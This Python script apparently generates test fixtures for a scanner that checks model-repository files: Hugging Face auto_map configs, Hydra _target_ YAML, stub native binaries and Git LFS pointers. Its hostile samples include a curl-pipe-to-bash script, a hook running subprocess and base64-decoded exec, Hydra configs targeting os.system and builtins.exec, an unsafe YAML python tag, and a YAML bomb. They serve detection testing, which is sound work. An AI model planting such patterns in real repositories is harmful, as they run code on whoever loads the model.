#!/usr/bin/env python3
"""Fixtures for model-repository files (tests/fixtures/repo/): configs with
auto_map / custom_pipelines / Hydra _target_, YAML bombs, code and native
binaries shipped beside weights, Git LFS pointers.  Standard library only;
nothing here is ever executed.  Usage: python3 tests/gen/gen_repo.py"""
import json
import os
import struct

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "repo")


def put(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, "wb") as f:
        f.write(data)


def put_json(rel, obj):
    put(rel, json.dumps(obj, indent=2) + "\n")


MODELING = '''import math

import torch
from torch import nn
from transformers import PreTrainedModel


class FooModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        self.eval()
        return self.proj(x) / math.sqrt(2.0)
'''

EVIL_PY = '''import base64
import subprocess
from torch import nn


def forward_hook(module, inputs):
    subprocess.run(["sh", "-c", "id"])
    exec(base64.b64decode("cHJpbnQoMSk="))


class Backdoor(nn.Module):
    pass
'''


def main():
    # Hugging Face repository: auto_map into a local file and another repo.
    put_json("hf_remote/config.json", {
        "architectures": ["FooModel"],
        "auto_map": {
            "AutoConfig": "configuration_foo.FooConfig",
            "AutoModel": "modeling_foo.FooModel",
            "AutoModelForCausalLM": "someone/other-repo--modeling_bar.BarModel",
        },
        "hidden_size": 16,
        "model_type": "foo",
    })
    put("hf_remote/modeling_foo.py", MODELING)
    put_json("hf_remote/tokenizer_config.json", {
        "auto_map": {"AutoTokenizer": ["tokenization_foo.FooTokenizer", None]},
        "model_max_length": 512,
    })
    # A plain config.json: nothing to report.  NaN as Python's json writes it.
    put("hf_benign/config.json", json.dumps({
        "architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768,
        "layer_norm_eps": 1e-12, "rope_scaling": None, "initializer_range": float("nan"),
        "id2label": {"0": "NEGATIVE", "1": "POSITIVE"}, "torch_dtype": "float32",
    }, indent=2) + "\n")
    # Keras-style config (class_name/module): a future Keras reader's job.
    put_json("hf_benign/keras_config.json", {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense",
                                                "config": {"units": 1}}]},
    })
    put("hf_benign/README.md", "# Model\n\n```python\nimport torch\nfrom transformers import AutoModel\n"
        "def f():\n    pass\nclass A:\n    pass\n```\n")
    put("hf_benign/params.yaml", "lr: 0.001\nepochs: 3\n")
    # custom pipeline + sentence-transformers modules.json
    put_json("custom_pipeline/config.json", {
        "model_type": "bert",
        "custom_pipelines": {"pair-classification": {
            "impl": "pair_classification.PairClassificationPipeline",
            "pt": ["AutoModelForSequenceClassification"], "tf": []}},
    })
    put_json("st_modules.json", [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_pooling.EvilPooling"},
    ])
    # Hydra / NeMo
    put("hydra_adam.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\n"
        "optim:\n  _target_: torch.optim.Adam\n  lr: 0.001\n"
        "trainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 3\n")
    put("hydra_os_system.yaml", "name: demo\ncallback:\n  _target_: os.system\n  _args_:\n    - touch /tmp/pwned\n")
    put("hydra_unknown.yaml", "model:\n  _target_: mypkg.evil.Thing\n  _partial_: true\n  size: 3\n")
    put("hydra_nested.yaml", "trainer:\n  callbacks:\n    - name: a\n    - nested:\n        - - deeper:\n"
        "              - _target_: subprocess.Popen\n                _args_: [[ls, -l]]\n")
    put("hydra_attr_chain.yaml", "x:\n  _target_: torch.nn.modules.module.os.system\n  _args_: [id]\n")
    put("hydra_anchor_target.yaml", "cmd: &c builtins.exec\nrun:\n  _target_: *c\n  _args_: ['print(1)']\n")
    put("python_tag.yaml", "_target_: torch.nn.Linear\nx: !!python/object/apply:os.system [\"id\"]\n")
    put_json("target.json", {"pipeline": [{"step": {"_target_": "builtins.eval", "_args_": ["1+1"]}}]})
    # YAML billion laughs: 10^9 nodes once aliases are expanded.
    lines = ["_target_: torch.nn.Linear", "l0: &l0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        lines.append("l%d: &l%d [%s]" % (i, i, ", ".join(["*l%d" % (i - 1)] * 10)))
    put("yaml_bomb.yaml", "\n".join(lines) + "\n")
    put("yaml_deep.yaml", "_target_: torch.nn.Linear\nx: " + "[" * 3000 + "]" * 3000 + "\n")
    put("json_deep.json", '{"_target_": "torch.nn.Linear", "x": ' + "[" * 500 + "]" * 500 + "}\n")
    put("json_bad.json", '{"_target_": "torch.nn.Linear", "x": [1, 2,, 3]}\n')
    # native code
    elf = bytearray(64)
    elf[0:16] = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    struct.pack_into("<HHI", elf, 16, 3, 62, 1)  # ET_DYN, x86-64, EV_CURRENT
    struct.pack_into("<HHHHHH", elf, 52, 64, 56, 0, 64, 0, 0)
    put("native/libcustom_op.so", bytes(elf))
    bad_elf = bytearray(elf)
    struct.pack_into("<Q", bad_elf, 32, 1 << 40)  # e_phoff far past the end
    struct.pack_into("<H", bad_elf, 56, 3)
    put("native/bad_phoff.so", bytes(bad_elf))
    macho = struct.pack("<IiiIIII", 0xfeedfacf, 0x01000007, 3, 6, 0, 0, 0) + b"\0" * 4
    put("native/libop.dylib", macho)
    fat = struct.pack(">II", 0xcafebabe, 1) + struct.pack(">iiIII", 0x01000007, 3, 28, 32, 12) + macho
    put("native/universal.dylib", fat)
    pe = bytearray(0x80 + 24 + 40)
    pe[0:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3c, 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x8664, 1, 0, 0, 0, 0, 0x2022)
    put("native/op.dll", bytes(pe))
    put("native/Foo.class", struct.pack(">IHH", 0xcafebabe, 0, 52) + b"\0" * 16)
    # scripts
    put("code/evil_hook.py", EVIL_PY)
    put("code/modeling_plain.py", MODELING)
    put("code/run.sh", "#!/bin/sh\nset -e\ncurl -s https://example.invalid/x | bash\n")
    put("code/train.sh", "#!/usr/bin/env bash\npython train.py --epochs 3\n")
    put("code/notes.txt", "import this is not python\njust some notes\n")
    # Git LFS pointer instead of the weights
    put("lfs/pytorch_model.bin", "version https://git-lfs.github.com/spec/v1\n"
        "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n")
    put("lfs/broken_pointer.bin", "version https://git-lfs.github.com/spec/v1\nsize 12\n")


if __name__ == "__main__":
    main()
